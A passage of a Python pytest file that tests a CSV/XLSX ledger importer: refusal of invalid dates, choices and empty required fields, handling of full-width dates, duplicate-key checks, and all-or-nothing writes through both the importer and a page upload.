            for row, (column, value, _) in zip(rows, expect, strict=True):
                alone = f"{column.header} = {value!r} ({fmt}), alone"
                sweep.run(alone, build(header, [row]), f"台账.{fmt}", dry_run=True)
            continue
        kept = _accepted_only(sweep, label, rows, result)
        sweep.notes.append(f"{label}: {len(kept)} of {len(rows)} rows accepted")
        for number, (column, value, must) in enumerate(expect, start=2):
            on_cell = [e for e in result.errors if e.row == number and e.column == column.header]
            if must is not None and not on_cell:
                others = [str(e) for e in result.errors if e.row == number]
                sweep.problem(
                    label,
                    f"{column.header} = {value!r} (row {number}) not refused on its cell"
                    + (f"; the row's errors: {others}" if others else " (accepted)"),
                )
            elif must and not any(must in e.reason for e in on_cell):
                sweep.problem(label, f"{column.header} = {value!r}: reason is not {must!r}")
            if value == "２０２１年１月１日" and any("无法识别" in e.reason for e in on_cell):
                sweep.problem(label, f"{column.header}: a full-width date is not understood")
        if kept:  # what the dry run accepted is written, and its ledgers still export
            before = snapshot()
            label_written = label + ", the accepted rows written"
            written = sweep.run(label_written, build(header, kept), f"台账.{fmt}")
            if written is not None and not written.ok:
                errors = [str(e) for e in written.errors[:4]]
                sweep.problem(label_written, f"rows the dry run accepted were refused: {errors}")
                sweep.nothing_written(label_written, before)
            elif written is not None:
                check_exports(sweep, client, label_written, list(new_records(before)))
    if not numeric and not dates:
        sweep.notes.append("no numeric or date column")
    sweep.finish()


def _invalid(importer) -> tuple[str, str, str]:
    """A column and a value its parser refuses, with the reason's start."""
    for column in importer.columns:
        if column.required and isinstance(column.parse, Date):
            return column.header, "2021-02-30", "日期无效"
    for column in importer.columns:
        if column.required and isinstance(column.parse, Choice):
            return column.header, "不存在的选项", "不是有效的选项"
    column = next(c for c in importer.columns if c.required)
    return column.header, "", "必填项不能为空"


@pytest.mark.parametrize("kind", KINDS)
def test_a_bad_row_after_a_good_one_writes_nothing(kind, client, org, people, world):
    prepare(kind, org, people)
    sweep = Sweep(kind, world)
    importer = sweep.importer
    header = headers(importer)
    column, value, reason = _invalid(importer)
    good = valid_row(importer, world, 1)
    bad = valid_row(importer, world, 2) | {column: value}

    for fmt, build in (("csv", csv_bytes), ("xlsx", xlsx_table)):
        label = f"row 2 valid, row 3 invalid ({fmt})"
        before = snapshot()
        result = sweep.run(label, build(header, [good, bad]), f"台账.{fmt}")
        sweep.refused(label, result, before, row=3, column=column, reason=reason)
        if result is not None and any(e.row == 2 for e in result.errors):
            sweep.problem(label, f"the valid row 2 has errors: {result.errors}")

    if importer.key_columns:  # refused only by the key check: row 3 repeats row 2's key
        label = "row 3 repeats row 2's key"
        again = valid_row(importer, world, 1)
        before = snapshot()
        result = sweep.run(label, csv_bytes(header, [good, again]))
        sweep.refused(label, result, before, row=3, reason="与第2行重复")

    client.force_login(world)
    label = "row 2 valid, row 3 invalid (page)"
    before = snapshot()
    result, _ = upload(sweep, client, label, csv_bytes(header, [good, bad]), "台账.csv")
    sweep.refused(label, result, before, row=3, column=column, reason=reason)
    sweep.finish()
